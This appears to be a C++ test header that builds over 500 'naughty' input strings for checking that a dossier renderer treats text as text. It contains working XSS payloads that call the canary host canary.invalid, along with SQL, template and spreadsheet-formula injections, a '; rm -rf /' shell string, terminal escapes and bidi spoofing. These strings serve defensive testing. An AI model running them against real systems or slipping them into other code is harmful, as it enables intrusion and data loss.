// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace redossier::test {

//! A text that something between a dossier and a reader's eyes could take for more than text.
struct NaughtyText
{
    std::string kind;
    std::string text; //!< UTF-8
};

//! Where every naughty text points that wants to fetch something: whoever asks for this host was not text.
inline constexpr std::string_view naughtyHost = "canary.invalid";

//! Over 500, made by kind: what is markup, a command or a sign to somebody, and how it is wrapped to get out of where it stands.
class NaughtyTexts
{
public:
    static std::vector<NaughtyText> all()
    {
        NaughtyTexts texts;
        texts.addMarkup();
        texts.addAddresses();
        texts.addOtherLanguages();
        texts.addSigns();
        texts.addLong();
        return std::move(texts.m_all);
    }

private:
    void add(const char *kind, const std::string &text) { m_all.push_back({kind, text}); }
    void each(const char *kind, const std::vector<std::string> &texts)
    {
        for (const std::string &text : texts)
            add(kind, text);
    }

    //! What would be noticed, were it ever run: the page itself would change, and somebody would be asked.
    static std::string command() { return "document.title='RAN';document.body.innerHTML='RAN';fetch('http://canary.invalid/ran')"; }

    void addMarkup()
    {
        const std::string run = command();
        const std::vector<std::string> elements{
            "<script>" + run + "</script>", "<SCRIPT SRC=http://canary.invalid/x.js></SCRIPT>", "<script/x>" + run + "</script >",
            "<img src=x onerror=\"" + run + "\">", "<img src=http://canary.invalid/i.png>", "<svg/onload=" + run + ">",
            "<svg><script>" + run + "</script></svg>", "<svg><image href=http://canary.invalid/i.svg /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
            "<svg><animate onbegin=" + run + " attributeName=x dur=1s>", "<math><mtext></form><form><mglyph><style></math><img src onerror=" + run + ">",
            "<iframe src=http://canary.invalid/f></iframe>", "<iframe srcdoc='<script>" + run + "</script>'>", "<object data=http://canary.invalid/o></object>",
            "<embed src=http://canary.invalid/e>", "<link rel=stylesheet href=http://canary.invalid/s.css>", "<link rel=preconnect href=http://canary.invalid/>",
            "<link rel=dns-prefetch href=//canary.invalid>", "<style>@import 'http://canary.invalid/s.css';</style>", "<style>body{background:url(http://canary.invalid/b)}</style>",
            "<meta http-equiv=refresh content='0;url=http://canary.invalid/m'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
            "<base href=http://canary.invalid/>", "<form action=http://canary.invalid/><input type=submit autofocus onfocus=" + run + ">",
            "<input autofocus onfocus=" + run + ">", "<video src=http://canary.invalid/v onerror=" + run + ">", "<audio src=http://canary.invalid/a>",
            "<details open ontoggle=" + run + ">", "<body onload=" + run + ">", "<marquee onstart=" + run + ">", "<template><script>" + run + "</script></template>",
            "<textarea>", "<title>", "<noscript><p title=\"</noscript><img src=x onerror=" + run + ">\">", "<plaintext>", "<xmp>", "<table background=http://canary.invalid/t>",
            "</title>", "</style>", "</main></body></html>", "</code></pre></td></tr></table>", "<a href=\"javascript:" + run + "\">x</a>", "<a href=http://canary.invalid/ ping=http://canary.invalid/p>x</a>",
            "<b>bold</b>", "<p style=\"background:url(http://canary.invalid/p)\">", "<x-y onclick=" + run + ">", "<!doctype html>", "<?xml-stylesheet href=\"http://canary.invalid/x\"?>"};
        const std::vector<std::pair<std::string, std::string>> around{{"", ""}, {"\">", ""}, {"'>", "<'"}, {"-->", "<!--"}, {"]]>", "<![CDATA["}, {"</style>", "<style>"},
                                                                     {"</title>", "<title>"}, {"`", "`"}};
        for (const std::string &element : elements)
            for (const auto &[before, behind] : around)
                add("element", before + element + behind);
        for (const char *event : {"onclick", "onmouseover", "onfocus", "onload", "onanimationstart", "onpointerenter", "ontoggle", "onbeforeprint"})
            for (const char *quote : {"\"", "'", ""})
                add("attribute", std::string(quote) + " " + event + "=" + quote + run + quote + " x=" + quote);
        each("comment", {"<!--", "-->", "<!-->", "--!>", "<!--[if IE]>", "<!--><img src=x>-->", "<!-- " + run + " -->"});
        each("CDATA", {"<![CDATA[", "]]>", "<![CDATA[<script>" + run + "</script>]]>", "]]]]><![CDATA[>"});
        each("entity", {"&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;", "&", "&&", "&;", "&#0;", "&#xD800;", "&#x110000;", "&nosuch;", "&lt", "&quot;&apos;"});
    }

    void addAddresses()
    {
        each("script address", {"javascript:" + command(), "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)", "\x01javascript:alert(1)"});
        each("data address", {"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:,x"});
        each("address", {"http://canary.invalid/", "//canary.invalid/x", "file:///etc/hostname", "blob:null/x", "about:blank", "view-source:http://canary.invalid", "ftp://canary.invalid/x",
                         "url(http://canary.invalid/u)", "url('data:text/css,x')", "expression(alert(1))", "\\75rl(http://canary.invalid)", "@import url(//canary.invalid/c);", "}body{display:none", "*/display:none/*"});
    }

    void addOtherLanguages()
    {
        each("template", {"{{title}}", "{{{title}}}", "{{&title}}", "{{> style.css}}", "{{#steps}}x{{/steps}}", "{{^title}}x{{/title}}", "{{=<% %>=}}", "{{! x }}", "{{", "}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
                          "{% raw %}", "{%", "%}", "{$x}", "[[x]]", "$(id)", "`id`", "@{x}", "%1 %2 %n %L1", "{0}", "{}"});
        each("SQL", {"'; DROP TABLE runs; --", "1 OR 1=1", "\" OR \"\"=\"", "/* x */", "x' UNION SELECT 1 --"});
        each("format", {"%s%s%s%s%n", "%d", "%99999999d", "%00", "%0a", "%2e%2e%2f", "{0!r:>{1}}", "%p %x", "\\n\\t\\0", "\\u003cscript\\u003e", "\\x3cscript\\x3e"});
        each("Markdown", {"[x](javascript:alert(1))", "![x](http://canary.invalid/m.png)", "[x]: http://canary.invalid", "<http://canary.invalid>", "```", "~~~", "# x", "> x", "* x", "---", "===", "| a | b |", "|---|", "**x** __x__ `x` ~~x~~",
                          "    code", "1. x", "- [ ] x", "[^1]", "\\<b\\>", "<details><summary>x</summary>"});
        each("table", {"=1+1", "+cmd|' /C x'!A0", "-1", "@SUM(A1)", "\"a\",\"b\"", "a\tb"});
        each("shell", {"; rm -rf /", "&& x", "| x", "> /dev/null", "-rf", "--help", "$HOME", "~", "*", "!!", "\\", "'", "\"", "`", "''", "\"\"", "'\"'\"'"});
        each("number", {"NaN", "Infinity", "-0", "1e400", "0x7f", "1/0", "00", "9007199254740993", "null", "undefined", "true", "None", "nil", "[]", "__proto__", "constructor"});
    }

    void addSigns()
    {
        for (int sign = 1; sign < 32; ++sign)
            if (sign != '\n' && sign != '\t')
                add("control character", std::string("a") + static_cast<char>(sign) + "b");
        each("control character", {"a\x7f" "b", "a\xc2\x80" "b", "a\xc2\x85" "b", "a\xc2\x9b" "31mb", "a\xc2\x9d" "0;x\x07", std::string("a\0b", 3)});
        each("escape sequence", {"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://canary.invalid\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x1b(0lqk", "\rcovered", "a\b\bx", "\x1b[6n"});
        each("line end", {"one\ntwo", "one\r\ntwo", "one\rtwo", "one\xe2\x80\xa8two", "one\xe2\x80\xa9two", "one\vtwo", "one\ftwo", "\n\n", "\t"});
        each("right to left", {"\xe2\x80\xae" "gnp.exe", "\xe2\x80\xab" "x\xe2\x80\xac", "\xe2\x81\xa6x\xe2\x81\xa9", "\xe2\x80\xaax", "\xd8\x9c", "\xe2\x80\x8f", "\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d 123"});
        each("no width", {"a\xe2\x80\x8b" "b", "a\xe2\x80\x8c" "b", "a\xe2\x80\x8d" "b", "\xef\xbb\xbf" "a", "a\xe2\x81\xa0" "b", "a\xc2\xad" "b", "a\xcd\x8f" "b", "a\xe1\xa0\x8e" "b", "a\xef\xbb\xbf" "b"});
        each("blank", {" ", "  two  ", "\xc2\xa0", "\xe3\x80\x80", "\xe2\x80\x83x", "\xe1\x9a\x80", "\xe2\xa0\x80"});
        each("combining", {"e\xcc\x81", "Z\xcc\xae\xcc\x9e\xcc\xa0\xcd\x99\xcd\x94\xcd\x85" "a", "\xcc\x81", "q\xcc\x87\xcc\xa3", "\xe0\xa4\x95\xe0\xa5\x8d\xe0\xa4\xb7", "\xe1\x84\x80\xe1\x85\xa1"});
        each("emoji", {"\xf0\x9f\x92\xa9", "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x94\xac", "\xf0\x9f\x87\xa9\xf0\x9f\x87\xaa", "\xe2\x9d\xa4\xef\xb8\x8f", "\xf0\x9f\x91\x8d\xf0\x9f\x8f\xbd", "#\xef\xb8\x8f\xe2\x83\xa3"});
        each("script of the world", {"\xe7\x94\xb0\xe4\xb8\xad\xe3\x81\x95\xe3\x82\x93", "\xce\xa9\xe2\x89\x88\xc3\xa7\xe2\x88\x9a", "\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82", "\xe0\xb8\xaa\xe0\xb8\xa7\xe0\xb8\xb1\xe0\xb8\xaa\xe0\xb8\x94\xe0\xb8\xb5",
                                     "\xed\x95\x9c\xea\xb5\xad\xec\x96\xb4", "\xf0\xa0\x9c\x8e\xf0\xa0\x9c\xb1", "\xc4\xb0\xc4\xb1\xc5\x9f", "\xc3\x9f\xe1\xba\x9e", "\xef\xac\x81", "\xd0\xb0\xd1\x80\xd1\x80le"});
        each("edge of Unicode", {"\xef\xbf\xbd", "\xef\xbf\xbe", "\xef\xbf\xbf", "\xf4\x8f\xbf\xbf", "\xee\x80\x80", "\xf3\xa0\x81\x81", "\xf0\x9f\xbf\xbe", "\xef\xb7\x90"});
        each("look-alike", {"\xef\xbc\x9cscript\xef\xbc\x9e", "\xe2\x80\xb9script\xe2\x80\xba", "\xca\xba x=\xca\xba", "\xe2\x80\x9cquoted\xe2\x80\x9d", "\xc2\xabx\xc2\xbb", "\xef\xb9\xa4x\xef\xb9\xa5"});
    }

    void addLong()
    {
        add("long", std::string(3000, 'x'));
        add("long", "<b>" + std::string(2000, '<') + std::string(500, '&'));
        std::string deep;
        for (int i = 0; i < 300; ++i)
            deep += "<div>";
        add("long", deep);
        std::string wide;
        for (int i = 0; i < 600; ++i)
            wide += "\xf0\x9f\x92\xa9";
        add("long", wide);
    }

    std::vector<NaughtyText> m_all;
};

} // namespace redossier::test
